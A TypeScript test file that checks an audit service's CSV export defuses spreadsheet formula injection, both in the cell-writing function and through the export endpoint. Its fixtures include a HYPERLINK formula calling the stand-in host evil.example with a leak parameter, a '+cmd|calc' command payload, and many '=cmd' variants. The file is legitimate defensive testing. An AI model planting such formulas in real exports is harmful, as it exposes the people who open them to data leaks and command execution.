// The CSV export defuses what a spreadsheet would run as a formula: audit events are partly
// written by outsiders (publishers, token subjects), and an auditor opens the export in Excel or
// LibreOffice. csvCell is checked on its own, then through GET /v1/audit/export?format=csv.
import fc from 'fast-check';
import type { JWTPayload } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/http/audit-export.js';
import type { Tenant } from '../../src/http/schemas/tenant.js';
import { eachDriver } from '../support/drivers.js';
import { createTenant } from '../support/factories.js';
import { ROLE_NAMES } from '../support/identities.js';
import { startServer, type TestServer } from '../support/server.js';
import { START } from '../support/time.js';

/** What starts a formula, at a cell's start (after spaces) or after a ; or tab inside it. */
const FORMULA = /^[ ]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** True when no spreadsheet import (split on , ; or tab, quotes honoured) finds a formula in the cell. */
const isDefused = (cell: string) => cell.split(/[;\t]/).every((part) => !FORMULA.test(part));

/** An RFC 4180 reader, strict enough to fail on a quoting mistake of the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && cell === '') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('csv: unterminated quoted cell');
        if (text[i] === '"') {
          if (text[i + 1] !== '"') break;
          i += 1;
        }
        cell += text[i];
        i += 1;
      }
      i += 1;
      if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`csv: text after a closing quote at ${i}`);
    } else if (text[i] === ',') {
      row.push(cell);
      cell = '';
      i += 1;
    } else if (text[i] === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      [row, cell] = [[], ''];
      i += 2;
    } else if (text[i] === '"' || text[i] === '\n' || text[i] === '\r') {
      throw new Error(`csv: ${JSON.stringify(text[i])} outside quotes at ${i}`);
    } else {
      cell += text[i];
      i += 1;
    }
  }
  if (cell !== '' || row.length > 0) throw new Error('csv: the last row does not end with CRLF');
  return rows;
}

describe('csvCell', () => {
  it.each<[string, string | number | boolean | null | undefined, string]>([
    ['plain text', 'Exported the report', 'Exported the report'],
    ['an = inside the text', 'a=b is no formula', 'a=b is no formula'],
    ['the empty string', '', ''],
    ['null', null, ''],
    ['undefined', undefined, ''],
    ['a number', 42, '42'],
    ['a boolean', true, 'true'],
    ['=', '=1+2', "'=1+2"],
    ['+', '+1', "'+1"],
    ['-', '-10+20', "'-10+20"],
    ['@', '@SUM(A1)', "'@SUM(A1)"],
    ['a negative number', -5, "'-5"],
    ['= after leading spaces', '   =cmd', "'   =cmd"],
    ['full-width ＝', '＝1+2', "'＝1+2"],
    ['full-width ＋', '＋1', "'＋1"],
    ['full-width －', '－1', "'－1"],
    ['full-width ＠', '＠cmd', "'＠cmd"],
    ['a leading tab', '\tfoo', `"'\tfoo"`],
    ['a leading CR', '\rfoo', `"'\rfoo"`],
    ['a leading tab before =', '\t=cmd', `"'\t'=cmd"`],
    ['= after ;', 'x;=cmd', `"x;'=cmd"`],
    ['= after a tab', 'x\t=cmd', `"x\t'=cmd"`],
    ['= after ; and spaces', 'x;  =cmd', `"x;  '=cmd"`],
    ['full-width ＋ after ;', 'x;＋1', `"x;'＋1"`],
    ['several formulas after separators', 'a;+1;-2\t@3', `"a;'+1;'-2\t'@3"`],
    ['formulas at the start and after ;', '=a;=b', `"'=a;'=b"`],
    ['a ; before a CR', 'x;\r=y', `"x;'\r=y"`],
    ['a comma', 'a,b', '"a,b"'],
    ['a comma before =', 'x,=cmd', '"x,=cmd"'],
    ['a ;', 'a;b', '"a;b"'],
    ['a tab', 'a\tb', '"a\tb"'],
    ['a quote', 'say "hi"', '"say ""hi"""'],
    ['an LF', 'a\nb', '"a\nb"'],
    ['a CR', 'a\rb', '"a\rb"'],
    ['a CRLF', 'a\r\nb', '"a\r\nb"'],
    ['a formula with quotes and commas', '=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
  ])('writes %s as its defused, quoted cell', (_case, value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('leaves no formula for any spreadsheet import, adds nothing but apostrophes, and quotes exactly when needed', () => {
    const unit = fc.constantFrom('a', 'b', ' ', '=', '+', '-', '@', ';', ',', '\t', '\r', '\n', '"', "'", '＝', '＋', '－', '＠', '€');
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 24 }), (text) => {
        const written = csvCell(text);
        const quoted = written.startsWith('"');
        expect(quoted).toBe(/[",;\t\r\n]/.test(text));
        const [[cell] = []] = parseCsv(`${written}\r\n`);
        expect(isDefused(cell ?? '')).toBe(true);
        expect((cell ?? '').replace(/'/g, '')).toBe(text.replace(/'/g, ''));
      }),
      { numRuns: 2_000 },
    );
  });
});

eachDriver('audit CSV export', (driver) => {
  let server: TestServer;
  let tenant: Tenant;

  /** A platform admin whose token's subject and client are themselves formulas. */
  const hostileOperator: JWTPayload = {
    sub: '=HYPERLINK("http://evil.example/?sub","open")',
    azp: '+cmd|calc',
    realm_access: { roles: [ROLE_NAMES.platformAdmin] },
  };

  /** What each published event carries, and the cells its row must hold after parsing. */
  const cases = [
    { key: 'formula', description: '=HYPERLINK("http://evil.example/?leak=1","Click me")', expected: `'=HYPERLINK("http://evil.example/?leak=1","Click me")` },
    { key: 'leading-tab', description: '\t=cmd', expected: "'\t'=cmd" },
    { key: 'leading-cr', description: '\r=cmd', expected: "'\r=cmd" },
    { key: 'spaces', description: '   +SUM(1,2)', expected: "'   +SUM(1,2)" },
    { key: 'after-semicolon', description: 'note;=cmd', expected: "note;'=cmd" },
    { key: 'after-tab', description: 'note\t-2+3', expected: "note\t'-2+3" },
    { key: 'full-width', description: '＝1+1', expected: "'＝1+1" },
    { key: 'separators', description: 'a,b;c\td"e\r\nf', expected: 'a,b;c\td"e\r\nf' },
    { key: 'harmless', description: 'a=b is no formula', expected: 'a=b is no formula' },
  ];

  beforeAll(async () => {
    server = await startServer(driver, { clock: () => new Date(START) });
    tenant = await createTenant(server.api);
    const hostile = await server.as(hostileOperator);
    for (const c of cases) {
      const answer = await hostile.post('/v1/audit', {
        body: {
          action: 'note.written',
          crud: 'c',
          tenant_id: tenant.id,
          actor: { id: '=1+1', name: '@admin' },
          target: { id: 'doc-1', name: '－5', type: '+type' },
          description: c.description,
          external_id: `x;=${c.key}`,
          fields: { formula: 'y;=2' },
        },
      });
      expect(answer.status, answer.text).toBe(201);
    }
  });
  afterAll(() => server.close());

  it('exports rows a spreadsheet cannot run: every hazardous cell defused, every value otherwise intact', async () => {
    const response = await fetch(new URL(`/v1/audit/export?tenant_id=${tenant.id}&format=csv`, server.url), {
      headers: { authorization: `Bearer ${server.api.token}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    const text = await response.text();
    const [header, ...rows] = parseCsv(text);
    const column = (name: string) => {
      const index = header!.indexOf(name);
      expect(index, name).toBeGreaterThanOrEqual(0);
      return index;
    };
    const published = rows.filter((row) => row[column('action')] === 'note.written');
    expect(published).toHaveLength(cases.length);

    for (const c of cases) {
      const row = published.find((r) => r[column('external_id')] === `x;'=${c.key}`);
      expect(row, c.key).toBeDefined();
      expect(row).toHaveLength(header!.length);
      expect(row![column('description')], c.key).toBe(c.expected);
      expect(row![column('actor_id')]).toBe("'=1+1");
      expect(row![column('actor_name')]).toBe("'@admin");
      expect(row![column('target_name')]).toBe("'－5");
      expect(row![column('target_type')]).toBe("'+type");
      expect(row![column('publisher_sub')]).toBe(`'${hostileOperator.sub!}`);
      expect(row![column('publisher_client')]).toBe("'+cmd|calc");
      expect(row![column('fields')]).toBe(`{"formula":"y;'=2"}`);
    }
    // Whatever a cell holds, no import that splits on , ; or tab finds a formula in it.
    for (const row of rows) for (const cell of row) expect(isDefused(cell), JSON.stringify(cell)).toBe(true);

    // The bytes themselves: quoted where a separator, quote or line break is inside.
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=1"",""Click me"")",`);
    expect(text).toContain(`,"'\t'=cmd",`);
    expect(text).toContain(`,"note;'=cmd",`);
    expect(text).toContain(`,"a,b;c\td""e\r\nf",`);
    expect(text).toContain(`,'＝1+1,`);
  });
});
